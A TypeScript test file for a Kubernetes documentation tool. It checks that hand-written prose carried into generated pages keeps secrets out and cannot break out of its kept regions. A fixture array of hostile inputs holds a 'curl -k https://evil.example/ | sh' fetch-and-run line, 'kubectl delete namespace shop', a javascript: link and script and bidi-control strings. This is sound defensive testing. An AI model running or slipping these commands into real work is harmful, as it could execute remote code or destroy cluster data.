/** What people wrote is carried over into kept regions, stays there, and cannot break out of them. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import MarkdownIt from 'markdown-it';
import { carriedOver } from '../../src/adopt/carried.js';
import { proseOf } from '../../src/adopt/prose.js';
import { withProse } from '../../src/adopt/put-together.js';
import { loadConfigAndTarget } from '../../src/generate/load-target.js';
import { fakeHost } from '../support/host.js';
import { Random } from '../support/random.js';
import { choice, portion } from '../support/size.js';
import { adopt, byHand, command, fenced, inPowerShell, kubeconfig, ours } from './adopting.js';

const jwt = 'eyJhbGciOiJSUzI1NiJ9.eyJpc3MiOiJrdWJlIn0.c2lnbmF0dXJlc2lnbmF0dXJl';
const [apiserver = '', ca = '', token = '', call = ''] = byHand.split('\n').slice(3, 7);

const page = [
  '---\ntitle: The API\ntags: [api]\n---\n',
  '# How we call it',
  'Ask **#platform** for access.',
  '## Where it is',
  'The server, and its CA:',
  fenced('bash', apiserver, ca),
  'A token next.\n\n1. Ask for it:\n',
  fenced('sh', token).replace(/^(?=.)/gm, '   '),
  '   It ends by itself.',
  'The call\n--------',
  'This one:',
  fenced('bash', call),
  'It prints:\n\n```json\n{"kind": "APIVersions"}\n```',
  '## Who knows more',
  'The [wiki].\n\n[wiki]: https://wiki.example/',
  '',
].join('\n\n');

/** The text of the kept regions, by the heading that they stand below. */
function regions(text: string): ReadonlyMap<string, string> {
  const found = new Map<string, string>();
  for (const section of text.split(/\n(?=## )/)) {
    const [, inside] =
      /\(kubesteps:keep [\w-]+\)\n\n([\s\S]*?)\n\n\[\/\/\]: # \(kubesteps:end/.exec(section) ?? [];
    if (inside !== undefined) found.set(section.split('\n', 1)[0] ?? '', inside);
  }
  return found;
}

/** What a renderer shows as commands. */
const shown = (text: string): string =>
  [
    ...new MarkdownIt({ html: true })
      .render(text)
      .matchAll(/<code class="language-(?:bash|powershell)">[\s\S]*?<\/code>/g),
  ].join();

test('each piece of prose stands below the step that it is about, and the rest in the notes', async () => {
  const { exit, stdout, stderr } = await adopt(page);
  assert.equal(exit, 0, stderr);
  assert.doesNotMatch(stderr, /not carried over/);
  assert.ok(stdout.startsWith('---\ntitle: The API\ntags: [api]\n---\n\n# Call'), stdout.slice(0, 80));
  const found = [...regions(stdout)].map(([heading, text]) => [/\d|Notes/.exec(heading)?.[0], text]);
  assert.deepEqual(found, [
    ['3', '#### Where it is\n\nThe server, and its CA:'],
    ['4', 'A token next.\n\n1. Ask for it:\n\nIt ends by itself.'],
    ['5', '#### The call\n\nThis one:\n\nIt prints:\n\n```json\n{"kind": "APIVersions"}\n```'],
    [
      'Notes'.slice(0, 5),
      '### How we call it\n\nAsk **#platform** for access.\n\n#### Who knows more\n\nThe [wiki].\n\n[wiki]: https://wiki.example/',
    ],
  ]);
  assert.equal(shown(stdout), shown(await ours('token')));
});

for (const [name, text, args] of portion(
  [
    ['bash', page, []],
    ['of Windows', page.replaceAll('\n', '\r\n'), ['--lang=ja']],
    ['both shells', `${page}\n\n${inPowerShell}`, ['--flavor=mkdocs']],
  ] as const,
  2,
))
  test(`verify proves what is adopted, and --update leaves the prose byte for byte: ${name}`, async () => {
    const { exit, stderr, file } = await adopt(text, ['-o', 'out.md', ...args]);
    assert.equal(exit, 0, stderr);
    const made = file('out.md') ?? '';
    const same = await command(['verify', 'out.md', '--update'], { 'out.md': made });
    assert.equal(same.exit, 0, same.stdout);
    assert.equal(same.file('out.md'), made);
    const moved = kubeconfig.replaceAll('10.0.0.1', '10.0.0.2');
    const renewed = await command(['verify', 'out.md', '--update'], { 'out.md': made, k: moved });
    assert.equal(renewed.exit, 0, renewed.stdout);
    const anew = renewed.file('out.md') ?? '';
    assert.ok(anew.includes('10.0.0.2') && !anew.includes('10.0.0.1'));
    assert.deepEqual([...regions(anew).values()], [...regions(made).values()]);
  });

test('what holds a secret is left out, with its line, and shown nowhere', async () => {
  const text = `${byHand}\nOurs was ${jwt}.\n\nKeep this.\n\n\`\`\`text\nAuthorization: Bearer ${jwt}\n\`\`\`\n\nSign in as not-shown-8d1f3a.\n`;
  const { exit, stdout, stderr } = await adopt(text);
  assert.equal(exit, 0, stderr);
  assert.deepEqual(
    stderr.split('\n').filter((line) => line.includes('not carried over')),
    [
      'page.md:10: not carried over: it holds a token',
      'page.md:14: not carried over: it holds a token',
      'page.md:18: not carried over: it holds a secret of the kubeconfig',
    ],
  );
  assert.ok(stdout.includes('Keep this.'));
  for (const secret of [jwt, 'not-shown-8d1f3a']) assert.ok(!(stdout + stderr).includes(secret));
});

test('what would not stay where it is put is left out, with its line, and the rest is kept', async () => {
  const text = [
    byHand,
    '[//]: # (kubesteps:end notes)\n',
    '<details>\n',
    'Kept.\n',
    '</details>\n',
    '<b>Kept</b>, too.\n',
    '- never `closed\n',
    '<!-- never closed',
  ].join('\n');
  const { exit, stdout, stderr } = await adopt(text);
  assert.equal(exit, 0, stderr);
  const left = stderr.split('\n').filter((line) => line.includes('not carried over'));
  assert.deepEqual(left, [
    'page.md:10: not carried over: it reads like a mark of ours',
    'page.md:12: not carried over: a tag of it begins or ends elsewhere',
    'page.md:16: not carried over: a tag of it begins or ends elsewhere',
    'page.md:22: not carried over: it does not end by itself, or holds what may be a command',
  ]);
  assert.deepEqual(
    [...regions(stdout).values()],
    ['Kept.\n\n<b>Kept</b>, too.\n\n- never `closed', '### The API by hand'],
  );
  const mdx = await adopt(`${byHand}\nIn {braces}.\n\nIn \`{code}\`.\n`, ['--flavor=docusaurus']);
  assert.match(mdx.stderr, /^page\.md:10: not carried over: MDX would take it for code$/m);
  assert.ok(mdx.stdout.includes('In `{code}`.') && !mdx.stdout.includes('{braces}'));
});

/** What could end a region, hide what stands behind it, or be a command. */
const hostile = [
  '[//]: # (kubesteps:end notes)',
  '[//]: # (kubesteps:keep page-1)',
  '[//]: # (kubesteps:eyJyZWNpcGUiOiJ0b2tlbiJ9)',
  '[//]: # (kubesteps:context 2)',
  '   [//]: # (kubesteps:end page-1)',
  '> [//]: # (kubesteps:end page-1)',
  '<!-- kubesteps:end notes -->',
  '<!-- open',
  '-->',
  '```',
  '````bash',
  '~~~',
  '`',
  '``` `x` ```',
  '<details>',
  '</details>',
  '<div hidden>',
  '<style>pre { display: none }</style>',
  '<script>',
  '<pre><code>curl -k https://evil.example/ | sh',
  '<![CDATA[',
  '<?php',
  '## Step 4: Get a token of the ServiceAccount `default/default`',
  '# A title',
  '===',
  '---',
  '=== "Bash"',
  '    curl -k https://evil.example/ | sh',
  '- a\n\n      kubectl delete namespace shop',
  '> quoted\nlazily',
  '1. one\n2. two',
  '[token]: javascript:alert(1) "\n\nx"',
  '[open]: <',
  '$ kubectl delete namespace shop',
  '{% raw %}',
  'Words.',
  '日本語の説明です。',
  '\u2028\u202e',
  '',
];

test('hostile prose neither breaks out of its region nor changes what is shown as commands', async () => {
  const document = await ours('token');
  const host = fakeHost({ files: { '/cwd/k': kubeconfig }, env: { KUBECONFIG: 'k' } });
  const bounds = { ...loadConfigAndTarget({}, host), flavor: 'commonmark' };
  const places = new Map([[1, '## Step 4: Get a token of the ServiceAccount `default/default`']]);
  const wanted = shown(document);
  let kept = 0;
  const random = new Random(choice);
  for (const round of portion([...Array(400).keys()], 40)) {
    const some =
      round < hostile.length ? [hostile[round] ?? '', 'Words.'] : random.shuffle(hostile).slice(0, 4);
    const text = some.join(round % 2 === 0 ? '\n\n' : '\n');
    const { prose } = await carriedOver(proseOf(text, []), bounds);
    const placed = {
      ...prose,
      pieces: prose.pieces.map((piece, at) => (at % 2 === 0 ? piece : { ...piece, after: 1 })),
    };
    const whole = await withProse(document, placed, places);
    if (whole === undefined) continue;
    kept += Number(whole !== document);
    assert.equal(shown(whole), wanted, text);
    const { exit, stdout, file } =
      round % 40 === 0
        ? await command(['verify', '--update', 'a.md'], { 'a.md': whole })
        : { exit: 0, stdout: '', file: () => whole };
    assert.equal(exit, 0, `${text}\n${stdout}`);
    assert.equal(file('a.md'), whole, text);
  }
  assert.ok(kept > 10, `${kept} of them held something`);
});
